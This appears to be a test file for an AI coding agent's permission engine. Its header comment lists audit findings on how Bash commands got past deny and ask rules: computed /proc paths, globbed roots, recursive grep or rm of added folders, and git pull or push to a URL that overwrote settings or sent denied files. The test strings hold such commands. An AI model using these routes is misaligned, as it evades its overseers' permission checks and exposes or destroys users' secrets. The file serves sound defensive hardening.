// Passes 74-76 on 6691794. 74 H1: under `Bash` itself, a path that starts with a value the script
// computes (`s=/pro; cat ${s}c/1/environ`, `/$(echo proc)/…`) reached the agent's /proc entries.
// 74 H2: the root kept in a variable (`r=/tmp/..`), matched by a glob (`/tm?/..`) or reached by a
// computed cd. 76 C1 (critical): `grep -r x DIR` of a folder given with --add-dir skipped the
// deny and ask rules that match at any depth (`Read(**/.env)`); 76 M1: so did `rm -r DIR` of any folder
// outside under `Edit(**/.env)`. 75 C1 (critical): `git pull URL` (or fetch then checkout) wrote the fetched
// `.claude/settings.json` under a rule naming git. 75 H1: `git push URL` sent committed denied files.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { Permissions } from '../../src/permissions/permissions';
import { bashEngine, bashTool, loadedChecker, workspaceWithHome } from './support';

describe('pass 74: paths and the root the script computes, under Bash itself', () => {
  it('H1, H2: a computed start of a path, a kept root and a glob back to the root ask', async () => {
    const { ws } = workspaceWithHome('74');
    const eng = bashEngine(ws, { allow: ['Bash'] }, await loadedChecker());
    for (const command of ['s=/pro; cat ${s}c/1/status', 'a=(/pr oc); cat "${a[0]}${a[1]}/1/status"', 'printf -v p /pr%sc o; cat $p/1/status', 'read p <<< /proc; cat $p/1/status', 'cat /$(echo proc)/1/status', 'r=/tmp/..; grep -r x $r', 'cd $(dirname /tmp) && grep -r x .', 'for d in /tm?/..; do ls $d; done', 'ls /tm?/..']) {
      assert.notEqual(eng.decide(command).behavior, 'allow', command);
    }
    for (const command of ['ls src/*.ts', 'for f in src/*.ts; do cat "$f"; done', 'd=src; cat $d/a.txt', 'cat "$HOME/.bashrc"', 'echo $(date)', 'cd src && ls']) assert.equal(eng.decide(command).behavior, 'allow', command);
  });
});

describe('pass 75: repositories named by URL', () => {
  it('C1, H1: fetch, pull and push to a repository the command names ask; a remote by name runs', async () => {
    const { ws } = workspaceWithHome('75');
    execFileSync('git', ['init', '-q', ws]);
    const checker = await loadedChecker();
    const rule = bashEngine(ws, { allow: ['Bash(git pull:*)', 'Bash(git fetch:*)', 'Bash(git push:*)'] }, checker);
    for (const command of ['git pull http://h/x.git main', 'git fetch http://h/x.git', 'git fetch --depth 1 https://h/x', 'git pull git@github.com:a/b', 'git push http://h/x.git HEAD', 'git push --repo=http://h/x']) {
      assert.equal(rule.decide(command).behavior, 'ask', command);
    }
    for (const command of ['git fetch origin', 'git pull', 'git pull --rebase origin main', 'git push -u origin HEAD', 'git fetch --all']) assert.equal(rule.decide(command).behavior, 'allow', command);
    const deny = bashEngine(ws, { allow: ['Bash'], deny: ['Read(secrets/**)'] }, checker);
    assert.equal(deny.decide('git push http://h/x.git HEAD').behavior, 'ask');
    assert.equal(deny.decide('git push origin main').behavior, 'allow');
  });
});

describe('pass 76', () => {
  it('C1: a recursive read of an added folder meets the rules that match at any depth', async () => {
    const { root, ws } = workspaceWithHome('76');
    const added = join(root, 'extra');
    mkdirSync(join(added, 'sub'), { recursive: true });
    writeFileSync(join(added, 'sub', '.env'), 'SECRET\n');
    writeFileSync(join(added, 'sub', 'x.key'), 'ASK\n');
    writeFileSync(join(added, 'plain.txt'), 'plain\n');
    mkdirSync(join(root, 'other', 'sub'), { recursive: true });
    const checker = await loadedChecker();
    for (const [deny, ask] of [[['Read(**/.env)'], []], [[], ['Read(**/*.key)']]] as const) {
      const p = new Permissions({ cwd: ws, rules: () => ({ allow: ['Bash(grep:*)', 'Bash(tar:*)', 'Bash(cat:*)'], ask: [...ask], deny: [...deny] }), trusted: () => true, bash: checker, sources: () => [{ label: '--add-dir', additionalDirectories: [added] }] });
      const decide = (command: string) => p.decide({ tool: bashTool, input: { command } }).behavior;
      for (const command of [`grep -r x ${added}`, `grep -rh . ${join(added, 'sub')}`, `tar cf - ${added}`]) assert.equal(decide(command), 'ask', `${deny}${ask}: ${command}`);
      assert.equal(decide(`cat ${join(added, 'plain.txt')}`), 'allow');
    }
    const other = join(root, 'other');
    writeFileSync(join(other, 'sub', '.env'), 'SECRET\n');
    const bash = bashEngine(ws, { allow: ['Bash'], deny: ['Edit(**/.env)', 'Read(**/.env)'] }, checker);
    for (const command of [`rm -r ${other}`, `find ${other} -name .env -delete`, `grep -r x ${other}`]) assert.equal(bash.decide(command).behavior, 'ask', command);
    assert.equal(bash.decide('grep -r x src').behavior, 'allow');
  });
});
